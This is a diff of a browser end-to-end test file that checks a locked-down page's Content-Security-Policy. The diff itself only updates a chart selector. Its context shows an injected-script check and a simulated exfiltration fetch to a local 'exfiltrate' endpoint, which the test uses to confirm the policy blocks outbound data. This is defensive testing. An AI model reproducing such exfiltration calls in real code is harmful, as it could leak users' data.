@@ -22,7 +22,7 @@ describe('a locked-down page', () => {
       const journey = await openJourney(browser(), inject('demoUrl'), viewport);
       const { page } = journey;
       await page.getByRole('heading', { name: /基金/ }).first().waitFor();
-      await page.locator('.chart-box .recharts-rectangle').first().waitFor();
+      await page.locator('.chart-box rect.chart-bar').first().waitFor();
       const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
       expect(directive(policy ?? '', 'script-src')).toMatch(/^script-src 'self' 'sha256-[A-Za-z0-9+/=]+'$/);
       expect(policy).toContain("object-src 'none'");
@@ -46,7 +46,7 @@ describe('a locked-down page', () => {
       }); },
     });
     const { page } = journey;
-    await page.locator('.chart-box .recharts-rectangle').first().waitFor();
+    await page.locator('.chart-box rect.chart-bar').first().waitFor();
     expect(await page.evaluate(() => (window as { __planted?: number }).__planted)).toBeUndefined();
     // (eval is not tried here: code sent over the DevTools protocol is exempt from the page's policy.)
     const fetched = await page.evaluate(() => fetch('http://127.0.0.1:9/exfiltrate').then(() => 'sent', (e: Error) => e.name));
